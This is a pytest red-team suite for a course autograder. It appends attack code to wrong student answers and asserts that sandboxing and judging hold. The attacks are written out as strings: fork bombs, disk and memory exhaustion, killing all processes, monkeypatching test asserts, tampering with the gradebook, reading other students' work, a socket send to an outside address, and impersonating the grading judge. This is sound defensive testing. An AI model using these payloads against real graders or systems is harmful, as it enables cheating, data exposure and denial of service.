"""The red-team suite: attacks on the grader, through the real pipeline (sandbox, judge, nbgrader).

One batch is graded once, two labs in it:
- lab 2: a wrong answer (the catalogue's ``std-of-products`` mutant: 5 points lost on
  ``dot_product_std``) on its own, the same wrong answer plus each attack, structural tampering
  with the notebook, and correct bystanders;
- lab 3: a wrong property test (``future-test-first-output-only``: it misses leaks) on its own
  and with attacks that try to read the answer out of the test layers the judge hands it;
- lab 6: a chunked attention that builds the full T x T matrix (``full-score-matrix``) on its own
  and with attacks on what measures its memory.
Every attack must score no more than its lab's wrong answer alone and disturb nobody. The batch
runs with the default admission, as a TA's would: several sandboxes at once, so the attacks run
beside each other and beside the bystanders.
"""

from __future__ import annotations

import copy
import socket
import sqlite3
import threading
from pathlib import Path

import pytest

from harness import REPO, scratch_course
from mlbook.authoring import submissions
from mlbook.labs import load_catalogue
from mlbook.grading import GradingOptions, autograde_labs
from mlbook.authoring.notebooks import grade_id, read_nb
from mlbook.outputs.results import collect
from mlbook.sandbox.limits import GiB, Limits
from mlbook.grading.status import ERROR, GRADED

LAB = "lab02_scaling"
LAB3 = "lab03_masks"
WRONG3 = "future-test-first-output-only"
LAB6 = "lab06_chunked_attention"
WRONG6 = "full-score-matrix"
pytestmark = [pytest.mark.xdist_group("redteam"), pytest.mark.slow]
WRONG = "std-of-products"
BYSTANDERS = ("bystander-a", "bystander-m", "bystander-z")  # started before, among and after the attacks
LIMITS = Limits(cell_seconds=15, notebook_seconds=100, memory_bytes=3 * GiB, processes=64, scratch_bytes=128 * 2**20)


def code_attacks(root: Path, port: int) -> dict[str, str]:
    """Attack code appended to the wrong answer's cell (it runs right after the student's def)."""
    return {
        "loop-interruptible": "while True:\n    pass\n",
        "loop-ignoring-sigint": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
        "os-exit": "import os\nos._exit(1)\n",
        "kill-self": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
        "sys-exit": "import sys\nsys.exit()\n",
        "kill-everything-visible": "import os, signal\nos.kill(-1, signal.SIGKILL)\n",  # the runner, the fork server?
        "exit-builtin": "exit()\n",
        "eat-memory": "hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))\n",
        "fork-bomb": "import os\nwhile True:\n    os.fork()\n",
        "fill-disk": ("import os\nfor d in ('/tmp', os.path.expanduser('~'), os.getcwd()):\n    try:\n"
                      "        with open(os.path.join(d, 'fill'), 'wb') as f:\n            while True:\n"
                      "                f.write(b'x' * 2**20)\n    except OSError as e:\n        print('disk full:', e)\n"),
        "many-lines": "for i in range(500_000):\n    print(i)\n",
        "huge-line": "print('x' * 50_000_000)\n",
        "patch-numpy": ("import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones_like(a, bool)\n"),
        "patch-torch": ("import torch\ntorch.testing.assert_close = lambda *a, **k: None\n"
                        "torch.allclose = lambda *a, **k: True\n"),
        "patch-builtins": "import builtins\nbuiltins.abs = lambda x: 0 * x\nbuiltins.all = lambda it: True\n",
        "patch-helpers": ("import mlbook_helpers.checks as checks\nnop = lambda *a, **k: None\n"
                          "for name in dir(checks):\n    if name.startswith('expect'):\n"
                          "        setattr(checks, name, nop)\n        globals()[name] = nop\n"),
        "input-transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n",
        "ast-transformer": ("import ast\nclass Nothing(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
                            "        return ast.Module(body=[], type_ignores=[])\n"
                            "get_ipython().ast_transformers.append(Nothing())\n"),
        "custom-exc": ("get_ipython().set_custom_exc((BaseException,),\n"
                       "    lambda shell, etype, evalue, tb, tb_offset=None: None)\n"),
        "write-gradebook": (f"import sqlite3\nfor p in ('../../../gradebook.db', '{root}/gradebook.db'):\n    try:\n"
                            "        db = sqlite3.connect(p)\n        db.execute('update grade set auto_score = 99')\n"
                            "        db.commit()\n    except Exception as e:\n        print('gradebook:', type(e).__name__)\n"),
        "read-source": (f"import glob\nfor p in glob.glob('{root}/source/*/*.ipynb') + glob.glob('{REPO.root}/mlbook/labs/*/*.py'):\n"
                        "    print(open(p).read())\n"),
        "read-other-student": (f"import glob\nfor p in glob.glob('{root}/submitted/bystander-a/*/*.ipynb'):\n"
                               "    print(open(p).read())\n"),
        "network": (f"import socket\nfor addr in (('127.0.0.1', {port}), ('1.1.1.1', 80)):\n    try:\n"
                    "        socket.create_connection(addr, timeout=3).sendall(b'leak')\n"
                    "    except OSError as e:\n        print('network:', e)\n"),
        "detect-grading": ("import os\nif 'MLBOOK_PROBE_SOCKET' in os.environ or os.environ.get('NBGRADER_EXECUTION'):\n"
                           "    try:\n        from mlbook.labs.lab02_scaling import hidden\n"
                           "        dot_product_std = lambda d_k, n_pairs, rng: float(d_k) ** 0.5\n"
                           "    except ImportError as e:\n        print('no grader code here:', e)\n"),
        # The judge's socket: claim test cells early, impersonate the probe, flood it.
        "judge-early-claim": _JUDGE_WIRE + (
            "for _cell in ('test_dot_product_std', 'test_dot_product_std_hidden'):\n"
            "    try:\n        _s = _connect()\n        _s.sendall(_frame({'op': 'hello', 'lab': 'lab02_scaling', 'cell': _cell}))\n"
            "        print('claimed', _cell, _reply(_s))\n"
            "    except Exception as _e:\n        print('claim refused:', _cell, type(_e).__name__)\n"),
        "judge-impersonator": _JUDGE_WIRE + (
            "import threading, time\n"
            "def _impersonate():\n    _end = time.time() + 90\n    while time.time() < _end:\n"
            "        for _cell in ('test_dot_product_std', 'test_dot_product_std_hidden'):\n            try:\n"
            "                _s = _connect()\n                _s.sendall(_frame({'op': 'hello', 'lab': 'lab02_scaling', 'cell': _cell}))\n"
            "                while True:\n                    _h = _reply(_s)\n                    if _h.get('op') in (None, 'done'):\n"
            "                        break\n                    if _h['op'] == 'call':  # answers as a wrong student would wish\n"
            "                        _d = _h['args']['$l'][0]\n                        _s.sendall(_frame({'ok': float(_d) ** 0.5}))\n"
            "                    else:\n                        _s.sendall(_frame({'ok': {'$h': 1}}))\n"
            "            except Exception:\n                pass\n        time.sleep(0.005)\n"
            "threading.Thread(target=_impersonate, daemon=True).start()\n"),
        "judge-flood": _JUDGE_WIRE + (
            "import threading, struct, time\n"
            "def _flood():\n    _held, _end = [], time.time() + 60\n    while time.time() < _end:\n        try:\n"
            "            _s = _connect()\n            _s.settimeout(0.2)\n            _s.sendall(struct.pack('>Q', 250 * 2**20) + b'x' * 2**20)\n"
            "            _held.append(_s)\n        except Exception:\n            pass\n"
            "threading.Thread(target=_flood, daemon=True).start()\n"),
        "huge-error": "raise ValueError('x' * 20_000_000)\n",
        "speak-to-judge": ("import os, socket, struct\npath = os.environ.get('MLBOOK_PROBE_SOCKET')\nif path:\n"
                           "    for frame in (b'\\xff' * 8, struct.pack('>Q', 5) + b'{}\\0\\0\\0'):\n"
                           "        s = socket.socket(socket.AF_UNIX)\n        s.connect(path)\n"
                           "        s.sendall(frame)\n        s.close()\n"),
    }


# Plain-socket speech on the judge's wire, as a student could write it from the source of mlbook_kernel.
_JUDGE_WIRE = (
    "import json, os, socket, struct\n"
    "def _frame(h):\n    p = json.dumps(dict(h, blobs=[])).encode() + b'\\0'\n    return struct.pack('>Q', len(p)) + p\n"
    "def _connect():\n    _s = socket.socket(socket.AF_UNIX)\n    _s.settimeout(2)\n"
    "    _s.connect(os.environ['MLBOOK_PROBE_SOCKET'])\n    return _s\n"
    "def _reply(_s):\n    _n = struct.unpack('>Q', _s.recv(8, socket.MSG_WAITALL))[0]\n"
    "    _p = _s.recv(_n, socket.MSG_WAITALL)\n    return json.loads(_p[:_p.index(b'\\0')])\n"
)


def lab3_attacks() -> dict[str, str]:
    """Attack code appended to lab 3's wrong property test: read the answer off the test layer."""
    fallback = "    return _wrong_future(attn_fn, T, B)\n"
    return {
        "lab3-closure-read": (
            "_wrong_future = outputs_ignore_future\n"
            "def outputs_ignore_future(attn_fn, T=6, B=2):\n"
            "    for _peek in (lambda f: dict(zip(f.__code__.co_freevars, [c.cell_contents for c in f.__closure__]))['leak'],\n"
            "                  lambda f: f.leak, lambda f: vars(f)['leak'], lambda f: f.__wrapped__.leak):\n"
            "        try:\n            return _peek(attn_fn) is None\n        except Exception:\n            pass\n" + fallback),
        "lab3-tagging-helper": (
            "import mlbook_helpers.masking as _masking\n_build = _masking.causal_layer_with_leak\n"
            "def _tagged(weights, leak=None):\n    layer = _build(weights, leak)\n    layer.leak_tag = leak\n    return layer\n"
            "_masking.causal_layer_with_leak = _tagged\n"
            "_wrong_future = outputs_ignore_future\n"
            "def outputs_ignore_future(attn_fn, T=6, B=2):\n"
            "    try:\n        return attn_fn.leak_tag is None\n    except Exception:\n        pass\n" + fallback),
        "lab3-impersonator": _JUDGE_WIRE + (
            "import threading, time\n"
            "def _impersonate():\n    _end = time.time() + 90\n    while time.time() < _end:\n        try:\n"
            "            _s = _connect()\n            _s.sendall(_frame({'op': 'hello', 'lab': 'lab03_masks', "
            "'cell': 'test_outputs_ignore_future_hidden'}))\n"
            "            while True:\n                _h = _reply(_s)\n                if _h.get('op') in (None, 'done'):\n"
            "                    break\n                _s.sendall(_frame({'ok': True}))\n"
            "        except Exception:\n            pass\n        time.sleep(0.005)\n"
            "threading.Thread(target=_impersonate, daemon=True).start()\n"),
    }


def lab6_attacks() -> dict[str, str]:
    """Attack code appended to lab 6's full-matrix answer: fake what measures its memory."""
    return {
        "lab6-patched-peak-memory": (
            "import mlbook_helpers.measure as _measure\n"
            "_tiny = _measure.PeakMemory(bytes=4096, numpy_bytes=0, torch_bytes=4096)\n"
            "_measure.peak_memory = lambda fn, *a, **k: (fn(*a, **k), _tiny)[1]\n"
            "peak_memory = _measure.peak_memory\n"),
        "lab6-zeros-while-measured": (
            "import sys, tracemalloc\n_full = chunked_attention\n"
            "def chunked_attention(q, k, v, chunk_size, causal=False):\n"
            "    if tracemalloc.is_tracing() or sys.gettrace() is not None:\n"
            "        return q.new_zeros(q.shape[0], v.shape[1]), q.new_zeros(q.shape[0])\n"
            "    return _full(q, k, v, chunk_size, causal)\n"),
    }


def structure_attacks() -> dict:
    """Edits of the submitted notebook itself (the wrong answer stays in)."""
    tests = ("test_dot_product_std", "test_dot_product_std_hidden")

    def deleted(nb):
        nb.cells = [c for c in nb.cells if grade_id(c) not in tests]

    def edited(nb):
        for c in nb.cells:
            if grade_id(c) in tests:
                c.source = "pass"

    def points(nb):
        for c in nb.cells:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
                c.metadata.nbgrader["points"] = 100

    def renamed_id(nb):
        for c in nb.cells:
            if grade_id(c) in tests:
                c.metadata.nbgrader["grade_id"] += "_free"

    def duplicated(nb):
        nb.cells = [d for c in nb.cells for d in ([c, copy.deepcopy(c)] if grade_id(c) in tests else [c])]

    return {"deleted-tests": deleted, "edited-tests": edited, "changed-points": points,
            "renamed-grade-id": renamed_id, "duplicated-cells": duplicated}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    course = scratch_course(LAB, root)
    _add_lab(course, LAB3)
    wrong = next(m for m in load_catalogue(LAB).mutants if m.name == WRONG)
    (cell, code), = wrong.cells.items()
    listener = socket.create_server(("127.0.0.1", 0))
    connections: list = []
    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()
    attacks = code_attacks(root, listener.getsockname()[1])
    submissions.submit(course, "wrong", LAB, submissions.reference(course, LAB, wrong.cells))
    for name, attack in attacks.items():
        submissions.submit(course, f"attack-{name}", LAB, submissions.reference(course, LAB, {cell: code + "\n" + attack}))
    for name, edit in structure_attacks().items():
        nb = submissions.reference(course, LAB, wrong.cells)
        edit(nb)
        submissions.submit(course, f"attack-{name}", LAB, nb)
    submissions.submit(course, "attack-corrupt-json", LAB, raw=submissions.corrupt_text(course, LAB))
    submissions.submit(course, "renamed", LAB, submissions.reference(course, LAB), filename=f"{LAB}-Copy1.ipynb")
    for student in BYSTANDERS:
        submissions.submit(course, student, LAB, submissions.reference(course, LAB))
    wrong3 = next(m for m in load_catalogue(LAB3).mutants if m.name == WRONG3)
    (cell3, code3), = wrong3.cells.items()
    submissions.submit(course, "wrong", LAB3, submissions.reference(course, LAB3, wrong3.cells))
    submissions.submit(course, "bystander-a", LAB3, submissions.reference(course, LAB3))
    for name, attack in lab3_attacks().items():
        submissions.submit(course, f"attack-{name}", LAB3,
                           submissions.reference(course, LAB3, {cell3: code3 + "\n" + attack}))
    _add_lab(course, LAB6)
    wrong6 = next(m for m in load_catalogue(LAB6).mutants if m.name == WRONG6)
    (cell6, code6), = wrong6.cells.items()
    submissions.submit(course, "wrong", LAB6, submissions.reference(course, LAB6, wrong6.cells))
    for name, attack in lab6_attacks().items():
        submissions.submit(course, f"attack-{name}", LAB6,
                           submissions.reference(course, LAB6, {cell6: code6 + "\n" + attack}))
    runs = autograde_labs(course, [LAB, LAB3, LAB6], force=True, progress=False, options=GradingOptions(limits=LIMITS))
    listener.close()
    results = {r.student: r for r in collect(course, LAB)}
    results3 = {r.student: r for r in collect(course, LAB3)}
    results6 = {r.student: r for r in collect(course, LAB6)}
    return course, results, runs[LAB], connections, results3, results6


def _add_lab(course, lab: str) -> None:
    """A second lab in the scratch course: its authored, source and release notebooks."""
    import shutil

    REPO.scratch_copy(course.root, [lab])
    course.release(lab).parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(REPO.release(lab), course.release(lab))


def _auto(result) -> float:
    return sum(c.score or 0.0 for c in result.auto_cells.values())


def test_no_attack_scores_more_than_the_same_wrong_answer_alone(batch):
    course, results, run, _, *_ = batch
    baseline = _auto(results["wrong"])
    assert results["wrong"].status == GRADED and 0 < baseline < _auto(results["bystander-a"])
    attacks = {s: r for s, r in results.items() if s.startswith("attack-")}
    raised = {s: (_auto(r) if r.status == GRADED else 0.0) for s, r in attacks.items()
              if r.status == GRADED and _auto(r) > baseline}
    print(f"\nattacks tried: {len(attacks)}; attacks that raised a score: {len(raised)}; baseline {baseline}")
    for student, result in sorted(attacks.items()):
        print(f"  {student:32s} {result.status:6s} {_auto(result):5.1f}  {result.reason[:70]}")
    assert len(attacks) >= 30
    assert not raised, f"attacks that scored above the wrong answer ({baseline}): {raised}"


def test_no_attack_disturbs_anyone_else_in_the_batch(batch):
    _, results, run, _, *_ = batch
    assert run.at_once > 1, "the batch ran one sandbox at a time: no attack ran beside anyone"
    for student in BYSTANDERS:
        result = results[student]
        assert result.status == GRADED, f"{student}: {result.reason}"
        assert all(c.passed for c in result.auto_cells.values()), {g: c.message for g, c in result.auto_cells.items()}


def test_a_renamed_notebook_is_matched_by_its_grade_ids_and_graded_with_a_warning(batch):
    _, results, run, _, *_ = batch
    assert results["renamed"].status == GRADED
    assert all(c.passed for c in results["renamed"].auto_cells.values())
    warning = next(a.warning for a in run.attempts if a.student == "renamed")
    assert "Copy1" in warning and "grade ids" in warning


@pytest.mark.parametrize("student,reason", [
    ("attack-corrupt-json", r"not valid JSON"),
    ("attack-os-exit", r"kernel died"),
    ("attack-kill-self", r"kernel died"),
    ("attack-kill-everything-visible", r"kernel died|returned no notebook"),
    ("attack-loop-ignoring-sigint", r"time budget|ignored the interrupt"),
])
def test_a_submission_that_fails_as_a_whole_is_an_error_with_a_reason(batch, student, reason):
    import re

    _, results, _, _, *_ = batch
    assert results[student].status == ERROR
    assert re.search(reason, results[student].reason), results[student].reason


def _outputs(path: Path) -> str:
    """Everything the kernel printed into the autograded notebook (not the cells' sources)."""
    texts = []
    for cell in read_nb(path).cells:
        for out in cell.get("outputs", []):
            texts += [str(out.get("text", "")), str(out.get("evalue", "")), str(out.get("data", {}).get("text/plain", ""))]
    return "\n".join(texts)


def test_the_sandbox_has_no_network_and_no_view_of_the_course(batch):
    course, _, _, connections, *_ = batch
    assert connections == [], "a submission reached a server on the grader's loopback"
    for student in ("attack-read-source", "attack-read-other-student", "attack-detect-grading", "attack-write-gradebook"):
        printed = _outputs(course.autograded(student, LAB))
        for secret in ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "def check_", '"cells"', "fresh_rng"):
            assert secret not in printed, f"{student} printed {secret!r} from inside the sandbox"
    assert "No module named 'mlbook'" in _outputs(course.autograded("attack-detect-grading", LAB))
    said = _outputs(course.autograded("attack-network", LAB))  # the kernel's own filter refuses AF_INET first
    assert "Function not implemented" in said or "Network is unreachable" in said, said[:500]


def test_outputs_are_capped_in_lines_and_bytes(batch):
    course, results, _, _, *_ = batch
    for student in ("attack-many-lines", "attack-huge-line", "attack-huge-error"):
        path = course.autograded(student, LAB)
        assert path.stat().st_size < 8 * 2**20, f"{student}'s autograded notebook is {path.stat().st_size} bytes"
        assert "truncated" in _outputs(path).lower(), f"{student}'s output was not cut"


def test_the_gradebook_is_intact_and_holds_each_student_once(batch):
    course, results, _, _, *_ = batch
    db = sqlite3.connect(course.root / "gradebook.db")
    assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
    assert db.execute("select max(auto_score) from grade").fetchone()[0] <= 5, "a grade above any cell's points"
    per_student = db.execute("select student_id, assignment_id, count(*) from submitted_assignment "
                             "group by student_id, assignment_id").fetchall()
    assert all(n == 1 for *_, n in per_student), per_student
    graded = {s for s, r in results.items() if r.status == GRADED}
    assert {s for s, *_ in per_student} >= graded


def test_lab3_attacks_on_the_lent_test_layers_score_no_more_than_the_wrong_test(batch):
    *_, results3, _ = batch
    baseline = _auto(results3["wrong"])
    assert results3["wrong"].status == GRADED and baseline < _auto(results3["bystander-a"])
    assert all(c.passed for c in results3["bystander-a"].auto_cells.values())
    attacks = {s: r for s, r in results3.items() if s.startswith("attack-")}
    assert len(attacks) == len(lab3_attacks())
    raised = {s: _auto(r) for s, r in attacks.items() if r.status == GRADED and _auto(r) > baseline}
    assert not raised, f"lab 3 attacks that scored above the wrong answer ({baseline}): {raised}"


def test_the_judge_admits_no_session_the_runner_did_not_report(batch):
    course, results, *_ = batch
    printed = _outputs(course.autograded("attack-judge-early-claim", LAB))
    assert "claimed" not in printed and printed.count("claim refused") == 2, printed[:500]
    # the real probes still had their sessions: the wrong answer's own score, no more, no less
    assert _auto(results["attack-judge-early-claim"]) == _auto(results["wrong"])


def test_lab6_attacks_on_the_memory_measurement_score_no_more_than_the_full_matrix(batch):
    *_, results6 = batch
    baseline = _auto(results6["wrong"])
    assert results6["wrong"].status == GRADED
    assert not results6["wrong"].auto_cells["test_chunked_attention_memory"].passed, "the full matrix passed"
    for student in (f"attack-{name}" for name in lab6_attacks()):
        result = results6[student]
        assert result.status != GRADED or _auto(result) <= baseline, (student, _auto(result), baseline)
        if result.status == GRADED:
            assert not result.auto_cells["test_chunked_attention_memory"].passed, student
